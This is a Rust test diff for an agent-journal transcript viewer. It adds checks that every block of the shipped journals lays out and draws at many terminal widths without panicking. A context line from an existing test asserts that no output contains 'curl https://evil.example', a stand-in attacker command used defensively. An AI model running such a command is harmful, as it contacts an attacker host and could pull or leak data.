@@ -195,3 +195,93 @@ fn a_note_that_looks_like_an_answer_command_is_never_left_as_one() {
         .flat_map(|b| &b.body)
         .any(|l| l.contains("curl https://evil.example")));
 }
+
+/// Every shipped journal (both generations, the agent's own, the damaged
+/// ones) with its file stem.
+fn shipped() -> Vec<(String, Vec<u8>)> {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata");
+    let mut out = Vec::new();
+    for dir in [
+        "runs",
+        "runs-v1",
+        "agent-journals/v1",
+        "agent-journals/v3",
+        "damaged",
+        "damaged-v1",
+    ] {
+        let mut paths: Vec<_> = std::fs::read_dir(root.join(dir))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.extension().is_some_and(|x| x == "json"))
+            .collect();
+        paths.sort();
+        for p in paths {
+            let stem = p.file_stem().unwrap().to_string_lossy().into_owned();
+            out.push((stem, std::fs::read(&p).unwrap()));
+        }
+    }
+    assert!(out.len() > 100, "{} journals", out.len());
+    out
+}
+
+/// A folded block's `…` used to be split by the label's byte count (a
+/// panic at, e.g., 77 columns on deferral-waiting): every block of every
+/// shipped journal, folded and open, at every width from 20 to 160, is
+/// laid out and drawn, and no row is wider than the text.
+#[test]
+fn every_block_of_every_shipped_journal_lays_out_at_every_width() {
+    use super::layout::{self, display_width, GUTTER};
+    let mut blocks = 0;
+    for (run, bytes) in shipped() {
+        let mut t = transcript(&bytes, &run);
+        t.finish();
+        // perf-large's thousands of blocks repeat a few shapes: its first
+        // 20 stand for the rest.
+        let items: Vec<_> = t.items().iter().take(20).copied().collect();
+        for it in &items {
+            let s = crate::transcript::block::shown(&t, it, None);
+            blocks += 1;
+            for w in 20..=160usize {
+                let tw = w.saturating_sub(GUTTER).max(8);
+                for folded in [true, false] {
+                    for row in layout::rows(&s, folded, tw) {
+                        let spans = draw::row_spans(&row, Some(it.kind), Some("e"), true);
+                        let drawn: String = spans.iter().map(|s| s.content.as_ref()).collect();
+                        assert_eq!(drawn, row.text(), "{run} at {w}");
+                        let tail = row.rest.rfind("  (").map_or(0, |at| {
+                            display_width(row.rest.get(at..).unwrap_or_default())
+                        });
+                        assert!(
+                            display_width(&row.text()) <= tw.max(tail + 1),
+                            "{run} at {w}, folded {folded}: {row:?}"
+                        );
+                    }
+                }
+            }
+        }
+    }
+    assert!(blocks > 1000, "{blocks} blocks");
+}
+
+/// Whole frames: the first screen, after `G` and after `Z`, of every
+/// shipped journal at a few widths, and of the two that panicked (at 77
+/// and, after `G`, at 80) at every width from 20 to 160.
+#[test]
+fn every_shipped_journal_draws_after_g_and_z() {
+    for (run, bytes) in shipped() {
+        let mut t = transcript(&bytes, &run);
+        let widths: Vec<u16> = if run == "deferral-waiting" || run == "kinds-dispatch" {
+            (20..=160).collect()
+        } else {
+            vec![20, 77, 80, 160]
+        };
+        for w in widths {
+            let mut m = Model::new(&mut t, w as usize, 23);
+            screen(&mut m, w, 24);
+            press(&mut m, 'G');
+            screen(&mut m, w, 24);
+            press(&mut m, 'Z');
+            screen(&mut m, w, 24);
+        }
+    }
+}
